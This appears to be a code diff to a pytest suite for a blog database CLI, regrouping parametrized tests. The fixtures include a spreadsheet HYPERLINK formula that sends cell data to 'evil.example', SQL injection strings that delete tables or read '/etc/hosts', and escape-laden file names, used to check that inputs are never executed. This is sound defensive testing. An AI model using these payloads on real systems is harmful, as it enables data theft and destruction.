@@ -20,6 +20,7 @@ from blogdb.cli.options import RowOptions
 from blogdb.cli.session import Rows
 
 from ..conftest import Run
+from ..rounds import combined
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example?"&A1,"click")',
@@ -196,24 +197,26 @@ def test_json_keeps_columns_of_one_name(run_here: Run) -> None:
     assert list(json.loads(done.stdout)[0].values()) == [1, 2, 3]
 
 
-@pytest.mark.parametrize("form", ["csv", "parquet"])
 @pytest.mark.parametrize(
-    "name",
-    [
-        "it's",
-        'a "b" c',
-        "'); copy posts to 'new",
-        "-dash",
-        "line\nfeed",
-        "a?b=c",
-        "*",
-        "[x]",
-        "ö" * 127,
-        "~",
-        "$HOME",
-        "a%20b",
-        "x\x1b[31m",
-    ],
+    ("form", "name"),
+    combined(
+        ["csv", "parquet"],
+        [
+            "it's",
+            'a "b" c',
+            "'); copy posts to 'new",
+            "-dash",
+            "line\nfeed",
+            "a?b=c",
+            "*",
+            "[x]",
+            "ö" * 127,
+            "~",
+            "$HOME",
+            "a%20b",
+            "x\x1b[31m",
+        ],
+    ),
 )
 def test_output_of_any_name(run_here: Run, blog: Path, form: str, name: str) -> None:
     """Any name of an output is that file and no other, and holds the rows."""
@@ -228,25 +231,27 @@ def test_output_of_any_name(run_here: Run, blog: Path, form: str, name: str) -> 
     assert found.read_bytes().startswith(begins[form])
 
 
-@pytest.mark.parametrize("command", ["show", "describe"])
 @pytest.mark.parametrize(
-    "name",
-    [
-        "posts; delete from tags",
-        "posts where false",
-        '"posts"',
-        "posts union all from posts",
-        "(select 1)",
-        "read_text('/etc/hosts')",
-        "/etc/hosts",
-        "posts--",
-        "$1",
-        "main.posts.x",
-        "",
-        "x" * 100_000,
-        "pragma_version",
-        "duckdb_settings()",
-    ],
+    ("command", "name"),
+    combined(
+        ["show", "describe"],
+        [
+            "posts; delete from tags",
+            "posts where false",
+            '"posts"',
+            "posts union all from posts",
+            "(select 1)",
+            "read_text('/etc/hosts')",
+            "/etc/hosts",
+            "posts--",
+            "$1",
+            "main.posts.x",
+            "",
+            "x" * 100_000,
+            "pragma_version",
+            "duckdb_settings()",
+        ],
+    ),
 )
 def test_name_is_a_name(run_here: Run, blog: Path, command: str, name: str) -> None:
     """What stands for a view's name is looked up, and never run."""
